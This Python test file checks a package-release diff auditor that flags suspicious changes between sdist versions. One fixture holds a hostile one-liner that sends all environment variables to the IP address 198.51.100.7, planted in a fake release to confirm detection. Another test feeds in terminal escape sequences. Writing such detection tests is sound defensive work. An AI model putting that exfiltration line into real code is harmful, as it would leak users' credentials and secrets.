"""Tests `boojum diff`: which files two names mean, and what is said of the second."""

import io
import tarfile
from pathlib import Path
from typing import Any, cast

import pyarrow as pa
import pytest

from audit.diff import DiffError, Side, diff_files, find_side, render_diff
from features.limits import Limits
from model.change.scoring import ChangeModel
from model.reasons import REASON_TYPE

SETUP = b"from setuptools import setup\n\nsetup(name='sheep')\n"
THIEF = b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.7/x', data=repr(dict(os.environ)).encode())\n"


class Scorer:
    """Scores every change the same."""

    def __init__(self, score: float | None) -> None:
        self.value = score

    def score(self, table: pa.Table) -> pa.Table:
        reason = {"column": "change_x", "meaning": "a new place", "value": 1.0, "contribution": 2.0}
        return pa.table(
            {
                "change_score": pa.array([self.value] * len(table), pa.float64()),
                "change_verdict": ["suspicious" if self.value else ""] * len(table),
                "change_reasons": pa.array([[reason]] * len(table), pa.list_(REASON_TYPE)),
            }
        )


def sdist(folder: Path, version: str, files: dict[str, bytes]) -> Side:
    path = folder / f"sheep-{version}.tar.gz"
    info = f"Metadata-Version: 2.1\nName: sheep\nVersion: {version}\n".encode()
    with tarfile.open(path, "w:gz") as archive:
        for name, data in {"PKG-INFO": info, "setup.py": SETUP, **files}.items():
            member = tarfile.TarInfo(f"sheep-{version}/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return Side(path, path.name)


def compare(before: Side, after: Side, score: float | None = 0.9) -> Any:
    return diff_files(before, after, cast(ChangeModel, Scorer(score)), Limits(), 100, lambda *_: None)


def test_a_payload_in_the_next_release_is_shown_first(tmp_path: Path) -> None:
    before = sdist(tmp_path, "1.0", {"sheep/__init__.py": b"x = 1\n", "docs/a.md": b"old\n"})
    after = sdist(tmp_path, "1.1", {"sheep/__init__.py": b"x = 1\n" + THIEF, "docs/a.md": b"new\n"})
    result = compare(before, after)
    assert ("release", 0.9, "suspicious") == (result.base_kind, result.score, result.verdict)
    assert "sheep-1.1/sheep/__init__.py" == result.members[0].path
    assert "198.51.100.7" in result.difference.hosts
    text = render_diff(result)
    assert "sheep-1.0.tar.gz -> sheep-1.1.tar.gz (release): suspicious 0.9000" in text
    assert "because of a new place (+2.00)" in text
    assert "new: sheep-1.1/sheep/__init__.py:3:" in text
    assert "+import os, urllib.request" in text


def test_a_model_without_changes_says_that_they_are_not_scored(tmp_path: Path) -> None:
    before = sdist(tmp_path, "1.0", {"sheep/__init__.py": b"x = 1\n"})
    after = sdist(tmp_path, "1.1", {"sheep/__init__.py": b"x = 2\n"})
    assert "(release): not scored" in render_diff(compare(before, after, None))


def test_two_files_of_one_release_are_siblings_and_of_two_projects_relatives(tmp_path: Path) -> None:
    before = sdist(tmp_path, "1.0", {})
    (tmp_path / "other").mkdir()
    after = sdist(tmp_path / "other", "1.0", {"a.py": b"1\n"})
    assert "sibling" == compare(before, after).base_kind
    renamed = after.path.with_name("goat-1.0.tar.gz")
    after.path.rename(renamed)
    assert "relative" == compare(before, Side(renamed, renamed.name)).base_kind


def test_hostile_names_and_lines_reach_no_terminal(tmp_path: Path) -> None:
    before = sdist(tmp_path, "1.0", {})
    after = sdist(tmp_path, "1.1", {"sheep/\x1b[31m.py": b"x = '\x1b]0;evil\x07'\n"})
    assert "\x1b" not in render_diff(compare(before, after))


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    broken = tmp_path / "sheep-1.0.tar.gz"
    broken.write_bytes(b"nothing")
    with pytest.raises(DiffError, match=r"sheep-1\.0\.tar\.gz cannot be read"):
        compare(Side(broken, broken.name), Side(broken, broken.name))


def test_a_file_is_named_by_its_path(tmp_path: Path) -> None:
    side = sdist(tmp_path, "1.0", {})
    assert side == find_side(str(side.path), tmp_path)


@pytest.mark.parametrize(
    ("given", "error"),
    [("nowhere.tar.gz", "is not a file"), ("sheep==9.9", "knows no file of sheep 9.9"), ("Sheep==1.0", "is not there")],
)
def test_a_name_that_means_no_file_says_what_to_do(store_folder: Path, given: str, error: str) -> None:
    with pytest.raises(DiffError, match=error):
        find_side(given, store_folder)
